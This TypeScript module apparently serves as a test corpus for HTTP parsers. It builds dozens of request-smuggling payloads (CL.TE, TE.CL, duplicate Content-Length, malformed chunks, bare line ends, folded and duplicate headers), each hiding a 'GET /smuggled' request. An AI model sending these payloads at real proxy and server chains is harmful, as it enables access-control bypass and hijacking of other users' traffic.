/**
 * Requests that two parsers may read differently (RFC 9112 11.2), each trying to bring `GET /smuggled` past the first one: the
 * known families (CL.TE, TE.CL, TE.TE, CL.CL, CL.0, chunk sizes and extensions, line ends, white space, folding, targets, hosts,
 * versions, hop-by-hop abuse) in the forms that research has published since 2005.
 */

export interface Attack {
  readonly name: string;
  readonly text: string;
}

const hidden = "GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n";
const host = "Host: a";

function post(name: string, fields: readonly string[], body: string, line = "POST /outer HTTP/1.1"): Attack {
  return { name, text: `${[line, host, ...fields].join("\r\n")}\r\n\r\n${body}` };
}

function head(name: string, lines: readonly string[]): Attack {
  return { name, text: `${lines.join("\r\n")}\r\n\r\n${hidden}` };
}

const clte = (name: string, encoding: string) =>
  post(`CL.TE: ${name}`, [`Content-Length: ${hidden.length + 5}`, encoding], `0\r\n\r\n${hidden}`);
const tecl = (name: string, encoding: string) =>
  post(`TE.CL: ${name}`, ["Content-Length: 4", encoding], `${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`);
const chunked = (name: string, body: string) => post(`chunks: ${name}`, ["Transfer-Encoding: chunked"], body);

const encodings: readonly (readonly [string, string])[] = [
  ["plain", "Transfer-Encoding: chunked"],
  ["upper case", "TRANSFER-ENCODING: CHUNKED"],
  ["space before the colon", "Transfer-Encoding : chunked"],
  ["tab before the colon", "Transfer-Encoding\t: chunked"],
  ["tab before the value", "Transfer-Encoding:\tchunked"],
  ["vertical tab", "Transfer-Encoding: \x0bchunked"],
  ["form feed", "Transfer-Encoding: \x0cchunked"],
  ["no-break space", "Transfer-Encoding:\xa0chunked"],
  ["quoted", 'Transfer-Encoding: "chunked"'],
  ["single quotes", "Transfer-Encoding: 'chunked'"],
  ["comma first", "Transfer-Encoding: ,chunked"],
  ["comma last", "Transfer-Encoding: chunked,"],
  ["semicolon", "Transfer-Encoding: chunked;x=y"],
  ["twice in a line", "Transfer-Encoding: chunked, chunked"],
  ["identity after", "Transfer-Encoding: chunked, identity"],
  ["identity before", "Transfer-Encoding: identity, chunked"],
  ["an unknown one", "Transfer-Encoding: xchunked"],
  ["cut", "Transfer-Encoding: chunke"],
  ["folded", "Transfer-Encoding:\r\n chunked"],
  ["folded with tab", "Transfer-Encoding:\r\n\tchunked"],
  ["hidden in another line by CR", "X: y\rTransfer-Encoding: chunked"],
  ["hidden in another line by LF", "X: y\nTransfer-Encoding: chunked"],
  ["underscore", "Transfer_Encoding: chunked"],
  ["NUL", "Transfer-Encoding: chunked\0"],
  ["two lines", "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked"],
];

export const attacks: readonly Attack[] = [
  ...encodings.map(([name, encoding]) => clte(name, encoding)),
  ...encodings.map(([name, encoding]) => tecl(name, encoding)),
  post("CL.CL: two", ["Content-Length: 0", `Content-Length: ${hidden.length}`], hidden),
  post("CL.CL: two, the other way round", [`Content-Length: ${hidden.length}`, "Content-Length: 0"], hidden),
  post("CL.CL: a list", [`Content-Length: 0, ${hidden.length}`], hidden),
  post("CL.CL: equal", ["Content-Length: 0", "Content-Length: 0"], hidden),
  post("CL: a sign", ["Content-Length: +0"], hidden),
  post("CL: negative", ["Content-Length: -1"], hidden),
  post("CL: hexadecimal", ["Content-Length: 0x0"], hidden),
  post("CL: a space inside", ["Content-Length: 0 0"], hidden),
  post("CL: underscore", [`Content_Length: ${hidden.length}`, "Content-Length: 0"], ""),
  post("CL: space before the colon", [`Content-Length : ${hidden.length}`], hidden),
  post("CL: empty", ["Content-Length:"], hidden),
  post("CL: too large", ["Content-Length: 18446744073709551616"], hidden),
  post("CL: hop by hop", ["Connection: Content-Length", `Content-Length: ${hidden.length}`], hidden),
  post(
    "TE: hop by hop",
    ["Connection: Transfer-Encoding", "Transfer-Encoding: chunked"],
    `${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`,
  ),
  post("TE in HTTP/1.0", ["Transfer-Encoding: chunked", "Connection: keep-alive"], `0\r\n\r\n${hidden}`, "POST /outer HTTP/1.0"),
  post("GET with a body", [`Content-Length: ${hidden.length}`], hidden, "GET /outer HTTP/1.1"),
  post("HEAD with a body", [`Content-Length: ${hidden.length}`], hidden, "HEAD /outer HTTP/1.1"),
  post("Expect and a body", ["Expect: 100-continue", `Content-Length: ${hidden.length}`], hidden),
  post("Expect, odd", ["Expect: 100-continue, x", `Content-Length: ${hidden.length}`], hidden),
  post("Upgrade and a body", ["Connection: Upgrade", "Upgrade: websocket", `Content-Length: ${hidden.length}`], hidden),
  post(
    "h2c",
    ["Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA", `Content-Length: ${hidden.length}`],
    hidden,
  ),
  chunked("a size with 0x", `0x0\r\n\r\n${hidden}`),
  chunked("a size with a sign", `+0\r\n\r\n${hidden}`),
  chunked("a size with a space", ` 0\r\n\r\n${hidden}`),
  chunked("an empty size", `\r\n\r\n${hidden}`),
  chunked("a size that overflows 64 bits", `10000000000000000\r\n\r\n${hidden}`),
  chunked("a size that overflows 32 bits", `100000000\r\n\r\n${hidden}`),
  chunked("a bare LF after the size", `0\n\n${hidden}`),
  chunked("a bare CR after the size", `0\r\r\n\r\n${hidden}`),
  chunked("a bare LF after the data", `1\r\nx\n0\r\n\r\n${hidden}`),
  chunked("no line end after the data", `1\r\nx0\r\n\r\n${hidden}`),
  chunked("other bytes for the line end after the data", `1\r\nxYY0\r\n\r\n${hidden}`),
  chunked("a LF inside an extension", `1;\n${hidden.length.toString(16)}\r\nx\r\n0\r\n\r\n${hidden}`),
  chunked("a CR inside an extension", `1;a\rb\r\nx\r\n0\r\n\r\n${hidden}`),
  chunked("an extension without a name", `1;=x\r\nx\r\n0\r\n\r\n${hidden}`),
  chunked("an open quote in an extension", `1;a="x\r\nx\r\n0\r\n\r\n${hidden}`),
  chunked("a request as a trailer", `0\r\n${hidden}`),
  chunked("a bare LF in the trailer", `0\r\nX: y\n\r\n${hidden}`),
  chunked("Content-Length in the trailer", `0\r\nContent-Length: ${hidden.length}\r\n\r\n`),
  head("a bare LF after the request line", ["GET /outer HTTP/1.1\nHost: b", host]),
  head("a request inside a header by LF", ["GET /outer HTTP/1.1", host, "X: y\n\nGET /smuggled HTTP/1.1"]),
  head("a request inside a header by CR", ["GET /outer HTTP/1.1", host, "X: y\r\rGET /smuggled HTTP/1.1"]),
  head("a folded Host", ["GET /outer HTTP/1.1", "Host:", " a"]),
  head("two Hosts", ["GET /outer HTTP/1.1", host, "Host: b"]),
  head("a Host and a space", ["GET /outer HTTP/1.1", "Host : a"]),
  head("a request in the target", ["GET /outer%0d%0aX: HTTP/1.1", host, "Content-Length: x"]),
  head("a raw line end in the target", ["GET /outer\rHTTP/1.1", host]),
  head("HTTP/1.1 twice", ["GET /outer HTTP/1.1 HTTP/1.1", host]),
  head("HTTP/0.9", ["GET /outer"]),
  head("HTTP/2 preface", ["PRI * HTTP/2.0", "", "SM"]),
  head("a tab in the request line", ["GET\t/outer\tHTTP/1.1", host]),
  head("an absolute target for another host", ["GET http://other/outer HTTP/1.1 ", host]),
  head("a NUL in a header", ["GET /outer HTTP/1.1", host, "X: \0"]),
  head("no colon", ["GET /outer HTTP/1.1", host, "Content-Length 5"]),
];
